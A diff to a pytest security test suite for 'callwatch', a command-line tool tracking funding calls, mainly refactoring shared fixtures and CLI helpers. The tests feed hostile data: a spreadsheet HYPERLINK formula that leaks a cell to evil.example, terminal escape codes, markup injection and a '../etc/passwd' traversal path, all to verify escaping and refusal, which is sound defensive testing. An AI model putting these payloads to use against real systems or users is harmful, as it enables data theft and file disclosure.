@@ -10,12 +10,9 @@ import re
 import sqlite3
 
 import pytest
-from typer.testing import CliRunner
 
-from callwatch.cli import app
 from tests.conftest import RECORDINGS as ROOT_RECORDINGS
-
-runner = CliRunner()
+from tests.conftest import cli, copy_db, frozen_env
 
 EVIL_TITLE = (
     '=HYPERLINK("https://evil.example/?x="&A1,"Klimat klick") [/b] [link=https://evil.example]'
@@ -36,25 +33,34 @@ BASE = {
 }
 
 
-def run(*args):
-    return runner.invoke(app, [str(a) for a in args])
-
-
 def write_jsonl(path, rows):
     path.write_text("\n".join(json.dumps(r, ensure_ascii=False) for r in rows) + "\n", "utf-8")
     return path
 
 
-@pytest.fixture
-def hostile_db(tmp_path):
+@pytest.fixture(scope="module")
+def hostile_db_once(tmp_path_factory):
     """A database holding hostile text as an older callwatch stored it (written straight into
-    the table, past today's input validation), plus hostile decisions."""
+    the table, past today's input validation), plus hostile decisions; built once per module,
+    never written to: tests use their own copy, `hostile_db`."""
+    tmp_path = tmp_path_factory.mktemp("hostile")
+    with pytest.MonkeyPatch.context() as mp:
+        frozen_env(mp, tmp_path)
+        return _build_hostile_db(tmp_path)
+
+
+@pytest.fixture
+def hostile_db(hostile_db_once, tmp_path):
+    return copy_db(hostile_db_once, tmp_path / "h.db")
+
+
+def _build_hostile_db(tmp_path):
     f = write_jsonl(
         tmp_path / "c.jsonl",
         [BASE | {"id": "evil-1"}, BASE | {"id": "evil-2", "url": "https://example.org/2"}],
     )
     db = tmp_path / "h.db"
-    r = run("--db", db, "import", f)
+    r = cli("--db", db, "import", f)
     assert r.exit_code == 0, r.output
     conn = sqlite3.connect(db)
     conn.execute(
@@ -69,7 +75,7 @@ def hostile_db(tmp_path):
     ids = [r[0] for r in conn.execute("SELECT id FROM calls ORDER BY id")]
     conn.close()
     for cid in ids:
-        r = run(
+        r = cli(
             "--db", db, "mark", cid, "--kommun", "Umeå", "--status", "watch",
             "--reason", "-2+3 [/i]", "--note", "=1+1 \x1b[2J", "--by", "@me",
         )  # fmt: skip
@@ -93,20 +99,20 @@ def _clean_text(out: str) -> None:
     ],
 )
 def test_item5_terminal_never_reads_markup_or_escapes(hostile_db, args):
-    r = run("--db", hostile_db, *args)
+    r = cli("--db", hostile_db, *args)
     assert r.exit_code == 0, r.output
     _clean_text(r.stdout)
     assert "[/" in r.stdout or "[bold]" in r.stdout or args[0] == "decisions"  # shown literally
 
 
 def test_item5_show_and_explain(hostile_db):
-    ids = [c["id"] for c in json.loads(run("--db", hostile_db, "calls", "-f", "json").stdout)]
+    ids = [c["id"] for c in json.loads(cli("--db", hostile_db, "calls", "-f", "json").stdout)]
     for cid in ids:
-        r = run("--db", hostile_db, "show", cid)
+        r = cli("--db", hostile_db, "show", cid)
         assert r.exit_code == 0, r.output
         _clean_text(r.stdout)
         assert "[/b]" in r.stdout or "[bold]" in r.stdout
-        r = run("--db", hostile_db, "explain", cid, "--kommun", "Umeå")
+        r = cli("--db", hostile_db, "explain", cid, "--kommun", "Umeå")
         assert r.exit_code in (0, 1) and "Traceback" not in r.output
         _clean_text(r.output)
 
@@ -131,9 +137,9 @@ def _csv_cells(text: str, delimiter: str = ","):
 )
 def test_item4_no_formula_cells_in_any_csv(hostile_db, args, delimiter):
     if "ID" in args:
-        cid = json.loads(run("--db", hostile_db, "calls", "-f", "json").stdout)[0]["id"]
+        cid = json.loads(cli("--db", hostile_db, "calls", "-f", "json").stdout)[0]["id"]
         args = [cid if a == "ID" else a for a in args]
-    r = run("--db", hostile_db, *args)
+    r = cli("--db", hostile_db, *args)
     assert r.exit_code == 0, r.output
     cells = _csv_cells(r.stdout, delimiter)
     assert any("HYPERLINK" in c or "SUM" in c or "1+1" in c for c in cells)  # data is there
@@ -143,7 +149,7 @@ def test_item4_no_formula_cells_in_any_csv(hostile_db, args, delimiter):
 
 
 def test_item6_rank_md_escapes(hostile_db):
-    r = run("--db", hostile_db, "rank", "--theme", "klimat", "--all", "--format", "md")
+    r = cli("--db", hostile_db, "rank", "--theme", "klimat", "--all", "--format", "md")
     assert r.exit_code == 0, r.output
     out = r.stdout
     assert "javascript:" not in out and not UNESCAPED_TAG.search(out)
@@ -156,18 +162,18 @@ def test_item6_rank_md_escapes(hostile_db):
 
 @pytest.mark.parametrize("fmt", ["md", "html"])
 def test_item5_reports_and_ics_have_no_control_characters(hostile_db, fmt):
-    r = run("--db", hostile_db, "report", "--network", "--format", fmt)
+    r = cli("--db", hostile_db, "report", "--network", "--format", fmt)
     assert r.exit_code == 0, r.output
     _clean_text(r.stdout)
     assert not UNESCAPED_TAG.search(r.stdout) and "javascript:" not in r.stdout
-    r = run("--db", hostile_db, "export", "--format", "ics", "--all", "--include-closed")
+    r = cli("--db", hostile_db, "export", "--format", "ics", "--all", "--include-closed")
     assert r.exit_code == 0, r.output
     _clean_text(r.stdout.replace("\r\n", "\n"))
     assert "javascript:" not in r.stdout
 
 
 def test_item5_json_escapes_terminal_controls(hostile_db):
-    r = run("--db", hostile_db, "calls", "-f", "json")
+    r = cli("--db", hostile_db, "calls", "-f", "json")
     assert r.exit_code == 0 and "\x9b" not in r.stdout and "\u202e" not in r.stdout
     assert any(EVIL_FUNDER in c["funder"] for c in json.loads(r.stdout))  # data intact
 
@@ -177,7 +183,7 @@ def test_item5_json_escapes_terminal_controls(hostile_db):
 
 
 def test_decision_text_is_cleaned_on_the_way_in(marked_db):
-    r = run(
+    r = cli(
         "--db", marked_db, "mark", "k1", "--kommun", "Umeå", "--status", "watch",
         "--reason", "a\x1b[31mb\u202ec", "--note", "line 1\nline 2\x07", "--by", "x" * 1000,
     )  # fmt: skip
@@ -209,7 +215,7 @@ def _outputs_all_work(db, *, seconds: float = 5.0) -> None:
     ]
     for args, parse in checks:
         start = time.monotonic()
-        r = run("--db", db, *args)
+        r = cli("--db", db, *args)
         took = time.monotonic() - start
         assert r.exit_code == 0, (args, r.output[-2000:])
         assert took < seconds, (args, took)
@@ -228,18 +234,18 @@ def test_item1_and_2_year_9999_and_a_1mb_word(tmp_path):
         ],
     )
     db = tmp_path / "t.db"
-    r = run("--db", db, "import", f)
+    r = cli("--db", db, "import", f)
     assert r.exit_code == 0, r.output
     assert "deadline" in r.stderr and "9999" in r.stderr and "dropped" in r.stderr
-    calls = {c["id"]: c for c in json.loads(run("--db", db, "calls", "-f", "json").stdout)}
+    calls = {c["id"]: c for c in json.loads(cli("--db", db, "calls", "-f", "json").stdout)}
     assert calls["import:big"]["deadlines"] == [] and len(calls["import:big"]["title"]) <= 501
     assert calls["import:eu"]["deadlines"] == [] and calls["import:old"]["opens"] is None
     _outputs_all_work(db)
-    r = run("--db", db, "show", "import:eu")
+    r = cli("--db", db, "show", "import:eu")
     assert r.exit_code == 0, r.output
 
 
-def test_item1_a_source_record_in_year_9999_is_dropped_with_a_warning(db):
+def test_item1_a_source_record_in_year_9999_is_dropped_with_a_warning(empty_db):
     from callwatch import store
     from callwatch.models import Call
     from tests.conftest import NOW
@@ -249,9 +255,9 @@ def test_item1_a_source_record_in_year_9999_is_dropped_with_a_warning(db):
         deadlines=["2027-01-01T17:00:00+01:00", "9999-12-31T23:59:59+00:00"],
         budget_amount=float("inf"), opens="garbage",
     )  # fmt: skip
-    counts = store.apply_crawl(db, "eu-ft", [c], complete=False, now=NOW, run_id=None)
+    counts = store.apply_crawl(empty_db, "eu-ft", [c], complete=False, now=NOW, run_id=None)
     assert counts.new == 1 and len(counts.warnings) == 3
-    row = store.get_call(db, "eu-ft:X-1")
+    row = store.get_call(empty_db, "eu-ft:X-1")
     assert row["deadlines"] == ["2027-01-01T17:00:00+01:00"] and row["budget_amount"] is None
     assert row["opens"] is None
 
@@ -283,19 +289,19 @@ def test_item1_migration_repairs_a_stored_year_9999_and_moves_imported_ids(tmp_p
 def test_item3_imported_ids_have_their_own_id_space(tmp_path):
     db = tmp_path / "t.db"
     f = write_jsonl(tmp_path / "c.jsonl", [BASE | {"id": "vinnova:2016-04968"}])
-    assert run("--db", db, "import", f).exit_code == 0
-    r = run("--db", db, "fetch", "--offline", "-q")  # every shipped source
+    assert cli("--db", db, "import", f).exit_code == 0
+    r = cli("--db", db, "fetch", "--offline", "-q")  # every shipped source
     assert r.exit_code == 0, r.output
-    ids = {c["id"] for c in json.loads(run("--db", db, "calls", "-f", "json").stdout)}
+    ids = {c["id"] for c in json.loads(cli("--db", db, "calls", "-f", "json").stdout)}
     assert {"vinnova:2016-04968", "import:vinnova:2016-04968"} <= ids
     runs = sqlite3.connect(db).execute("SELECT status FROM runs").fetchall()
     assert ("running",) not in runs
     # the other order: fetched first, then imported
     f2 = write_jsonl(tmp_path / "d.jsonl", [BASE | {"id": "vinnova:2021-02297"}])
-    r = run("--db", db, "import", f2)
+    r = cli("--db", db, "import", f2)
     assert r.exit_code == 0, r.output
-    assert run("--db", db, "fetch", "--offline", "--source", "vinnova", "-q").exit_code == 0
-    ids = {c["id"] for c in json.loads(run("--db", db, "calls", "-f", "json").stdout)}
+    assert cli("--db", db, "fetch", "--offline", "--source", "vinnova", "-q").exit_code == 0
+    ids = {c["id"] for c in json.loads(cli("--db", db, "calls", "-f", "json").stdout)}
     assert {"vinnova:2021-02297", "import:vinnova:2021-02297"} <= ids
 
 
@@ -307,7 +313,7 @@ def test_item3_a_store_failure_ends_the_run_as_failed(tmp_path, monkeypatch):
 
     monkeypatch.setattr(store, "apply_crawl", broken)
     db = tmp_path / "t.db"
-    r = run("--db", db, "fetch", "--offline", "--source", "vinnova")
+    r = cli("--db", db, "fetch", "--offline", "--source", "vinnova")
     assert r.exit_code == 1 and "Traceback" not in r.output and r.exception is not None
     conn = sqlite3.connect(db)
     assert conn.execute("SELECT status FROM runs").fetchall() == [("failed",)]
@@ -329,7 +335,7 @@ def test_item11_import_refuses_infinite_budgets_and_broken_urls(tmp_path, value,
         row = row[:-1] + f', "budget": {value["budget"]}}}'
     f = tmp_path / "c.jsonl"
     f.write_text(row + "\n", encoding="utf-8")
-    r = run("--db", tmp_path / "t.db", "import", f)
+    r = cli("--db", tmp_path / "t.db", "import", f)
     # a bad option value is a usage error (exit 2), a bad value found later an error (exit 1)
     assert r.exit_code in (1, 2) and message in r.stderr and r.stderr.count("\n") == 1, r.output
 
@@ -337,10 +343,10 @@ def test_item11_import_refuses_infinite_budgets_and_broken_urls(tmp_path, value,
 def test_item11_import_deeply_nested_line_and_bom(tmp_path):
     f = tmp_path / "c.jsonl"
     f.write_text("[" * 100_000 + "]" * 100_000 + "\n", encoding="utf-8")
-    r = run("--db", tmp_path / "t.db", "import", f)
+    r = cli("--db", tmp_path / "t.db", "import", f)
     assert r.exit_code == 1 and "line 1" in r.stderr and r.stderr.count("\n") == 1, r.output
     f.write_text("\ufeff" + json.dumps(BASE | {"id": "a"}) + "\n", encoding="utf-8")
-    r = run("--db", tmp_path / "t.db", "import", f)
+    r = cli("--db", tmp_path / "t.db", "import", f)
     assert r.exit_code == 0 and "1 new" in r.stdout, r.output
 
 
@@ -374,6 +380,7 @@ def _sources_pointing_at(tmp_path, url: str):
     return folder
 
 
+@pytest.mark.slow
 def test_item7_no_encoded_form_of_a_key_is_stored_recorded_or_printed(tmp_path, monkeypatch):
     import os
     import zlib
@@ -412,13 +419,13 @@ def test_item7_no_encoded_form_of_a_key_is_stored_recorded_or_printed(tmp_path, 
         folder = _sources_pointing_at(tmp_path, srv.url)
         db = tmp_path / "k.db"
         rec = tmp_path / "rec"
-        r = run("--db", db, "--sources", folder, "fetch", "--source", "formas", "--record", rec)
+        r = cli("--db", db, "--sources", folder, "fetch", "--source", "formas", "--record", rec)
         assert len(srv.hits) == 2, srv.hits  # query form refused, header form answered
     assert r.exit_code == 0, r.output
     out = r.stdout.encode() + r.stderr.encode()
-    r2 = run("--db", db, "--sources", folder, "fetch", "--source", "formas", "--log-json")
+    r2 = cli("--db", db, "--sources", folder, "fetch", "--source", "formas", "--log-json")
     out += r2.stdout.encode() + r2.stderr.encode()
-    calls = run("--db", db, "calls", "-f", "json")
+    calls = cli("--db", db, "calls", "-f", "json")
     assert "self:" in calls.stdout  # the echoed text was stored, without the key
     out += calls.stdout.encode()
     conn = sqlite3.connect(db)
@@ -438,7 +445,7 @@ def test_item7_no_encoded_form_of_a_key_is_stored_recorded_or_printed(tmp_path, 
 
 def test_item7_a_key_that_url_encoding_changes_still_replays_offline(tmp_path, monkeypatch):
     monkeypatch.setenv("CALLWATCH_INTERREG_KEY", "abc+/==")  # Algolia-style base64 key
-    r = run("--db", tmp_path / "t.db", "fetch", "--offline", "--source", "interreg", "--log-json")
+    r = cli("--db", tmp_path / "t.db", "fetch", "--offline", "--source", "interreg", "--log-json")
     assert r.exit_code == 0, r.output
     event = json.loads(r.stdout.splitlines()[0])
     assert event["status"] == "ok" and "abc" not in r.output
@@ -473,7 +480,7 @@ def test_item10_keys_file_0644_skips_only_keyed_sources_and_is_logged(tmp_path, 
     assert by["vinnova"].status == "ok" and by["vinnova"].seen > 0
     runs = con.execute("SELECT source, status, error FROM runs").fetchall()
     assert any(s == "formas" and st == "skipped" and "chmod 600" in e for s, st, e in runs)
-    r = run("--db", db, "fetch", "--offline")  # the whole offline fetch is not stopped either
+    r = cli("--db", db, "fetch", "--offline")  # the whole offline fetch is not stopped either
     assert r.exit_code == 0, r.output
 
 
@@ -481,13 +488,23 @@ def test_item10_keys_file_0644_skips_only_keyed_sources_and_is_logged(tmp_path, 
 # Item 8: --out is atomic and never the database; item 9: read commands never create data
 
 
-@pytest.fixture
-def marked_db(tmp_path):
-    f = write_jsonl(tmp_path / "c.jsonl", [BASE | {"id": "k1"}])
-    db = tmp_path / "m.db"
-    assert run("--db", db, "import", f).exit_code == 0
-    assert run("--db", db, "mark", "k1", "--kommun", "Umeå", "--status", "engage").exit_code == 0
+@pytest.fixture(scope="module")
+def marked_db_once(tmp_path_factory):
+    """One imported call with one decision; built once per module, tests take a copy."""
+    tmp_path = tmp_path_factory.mktemp("marked")
+    with pytest.MonkeyPatch.context() as mp:
+        frozen_env(mp, tmp_path)
+        f = write_jsonl(tmp_path / "c.jsonl", [BASE | {"id": "k1"}])
+        db = tmp_path / "m.db"
+        assert cli("--db", db, "import", f).exit_code == 0
+        r = cli("--db", db, "mark", "k1", "--kommun", "Umeå", "--status", "engage")
+        assert r.exit_code == 0, r.output
     return db
+
+
+@pytest.fixture
+def marked_db(marked_db_once, tmp_path):
+    return copy_db(marked_db_once, tmp_path / "m.db")
 
 
 def _decisions(db) -> int:
@@ -508,7 +525,7 @@ def test_item8_out_never_overwrites_the_database(marked_db, suffix, tmp_path):
         ["report", "--kommun", "Umeå", "--out", target],
         ["export", "--format", "csv", "--out", target],
     ):
-        r = run("--db", marked_db, *args)
+        r = cli("--db", marked_db, *args)
         assert r.exit_code == 1 and "database" in r.stderr and r.stderr.count("\n") == 1
     assert marked_db.read_bytes().startswith(b"SQLite format 3") and _decisions(marked_db) == 1
     if target.exists() and suffix in ("-wal", "-shm", ".fetch.lock"):
@@ -525,7 +542,7 @@ def test_item8_out_is_atomic_and_a_failed_report_is_not_recorded(marked_db, tmp_
         raise OSError(28, "No space left on device")
 
     monkeypatch.setattr(os, "replace", broken_replace)
-    r = run("--db", marked_db, "report", "--kommun", "Umeå", "--out", out)
+    r = cli("--db", marked_db, "report", "--kommun", "Umeå", "--out", out)
     assert r.exit_code == 1 and "cannot write" in r.stderr and r.stderr.count("\n") == 1
     assert out.read_text(encoding="utf-8") == "last week's report\n"  # untouched
     assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".umea")] == []  # no temp
@@ -533,14 +550,14 @@ def test_item8_out_is_atomic_and_a_failed_report_is_not_recorded(marked_db, tmp_
     assert conn.execute("SELECT count(*) FROM reports").fetchone()[0] == 0  # not "reported"
     conn.close()
     monkeypatch.undo()
-    r = run("--db", marked_db, "report", "--kommun", "Umeå", "--out", tmp_path / "folder" / "x")
+    r = cli("--db", marked_db, "report", "--kommun", "Umeå", "--out", tmp_path / "folder" / "x")
     assert r.exit_code == 1 and r.stderr.count("\n") == 1
     # a symlink to an ordinary file is followed deliberately: the target is replaced whole
     real = tmp_path / "real.md"
     real.write_text("old\n", encoding="utf-8")
     link = tmp_path / "link.md"
     link.symlink_to(real)
-    r = run("--db", marked_db, "report", "--kommun", "Umeå", "--out", link)
+    r = cli("--db", marked_db, "report", "--kommun", "Umeå", "--out", link)
     assert r.exit_code == 0, r.output
     assert link.is_symlink() and real.read_text(encoding="utf-8").startswith("# ")
     conn = sqlite3.connect(marked_db)
@@ -565,7 +582,7 @@ def test_item8_out_is_atomic_and_a_failed_report_is_not_recorded(marked_db, tmp_
 )
 def test_item9_a_mistyped_db_creates_nothing(tmp_path, args):
     missing = tmp_path / "typo" / "callwatch.db"
-    r = run("--db", missing, *args)
+    r = cli("--db", missing, *args)
     assert r.exit_code == 1 and "no such database" in r.stderr and r.stderr.count("\n") == 1
     assert not (tmp_path / "typo").exists()
 
@@ -593,7 +610,7 @@ def test_item10_a_killed_fetch_stops_showing_as_running(tmp_path):
     db = store.open_db(db_path)
     stale = store.start_run(db, "vinnova", "live", NOW)  # a fetch killed with SIGKILL
     db.conn.close()
-    r = run("--db", db_path, "fetch", "--offline", "--source", "vinnova", "-q")
+    r = cli("--db", db_path, "fetch", "--offline", "--source", "vinnova", "-q")
     assert r.exit_code == 0, r.output
     conn = sqlite3.connect(db_path)
     status = conn.execute("SELECT status, error FROM runs WHERE id = ?", [stale]).fetchone()
@@ -612,13 +629,13 @@ def test_item10_replay_index_traversal_and_list_are_refused(tmp_path):
         entry["file"] = "../../../../../../../../etc/passwd"
     (rec / "vinnova" / "index.json").write_text(json.dumps(index), encoding="utf-8")
     db = tmp_path / "t.db"
-    r = run("--db", db, "fetch", "--replay", rec, "--source", "vinnova")
+    r = cli("--db", db, "fetch", "--replay", rec, "--source", "vinnova")
     assert r.exit_code == 1 and "refused" in r.stderr, r.output
     conn = sqlite3.connect(db)
     assert conn.execute("SELECT count(*) FROM raw_responses").fetchone()[0] == 0
     conn.close()
     (rec / "vinnova" / "index.json").write_text("[1, 2]", encoding="utf-8")
-    r = run("--db", db, "fetch", "--replay", rec, "--source", "vinnova")
+    r = cli("--db", db, "fetch", "--replay", rec, "--source", "vinnova")
     assert r.exit_code == 1 and "not a valid recording index" in r.stderr
     assert r.stderr.count("\n") == 1 and "Traceback" not in r.output
 
@@ -639,7 +656,7 @@ def test_item10_replay_index_traversal_and_list_are_refused(tmp_path):
     ],
 )
 def test_item11_bad_options_are_one_line_errors(marked_db, args, message):
-    r = run("--db", marked_db, *args)
+    r = cli("--db", marked_db, *args)
     # a bad option value is a usage error (exit 2), a bad value found later an error (exit 1)
     assert r.exit_code in (1, 2) and message in r.stderr and r.stderr.count("\n") == 1, r.output
 
@@ -647,7 +664,7 @@ def test_item11_bad_options_are_one_line_errors(marked_db, args, message):
 def test_item11_fetch_into_a_folder_that_cannot_be_written(tmp_path):
     blocker = tmp_path / "file"
     blocker.write_text("x", encoding="utf-8")
-    r = run("--db", blocker / "sub" / "c.db", "fetch", "--offline", "--source", "vinnova")
+    r = cli("--db", blocker / "sub" / "c.db", "fetch", "--offline", "--source", "vinnova")
     assert r.exit_code == 1 and r.stderr.startswith("Error: ") and r.stderr.count("\n") == 1
 
 
@@ -672,7 +689,7 @@ def test_item11_rules_check_refuses_bad_profiles(tmp_path, edit, message):
     text = umea.read_text(encoding="utf-8")
     assert edit(text) != text
     umea.write_text(edit(text), encoding="utf-8")
-    r = run("--rules", rules, "rules", "check")
+    r = cli("--rules", rules, "rules", "check")
     # a bad option value is a usage error (exit 2), a bad value found later an error (exit 1)
     assert r.exit_code in (1, 2) and message in r.stderr and r.stderr.count("\n") == 1, r.output
 
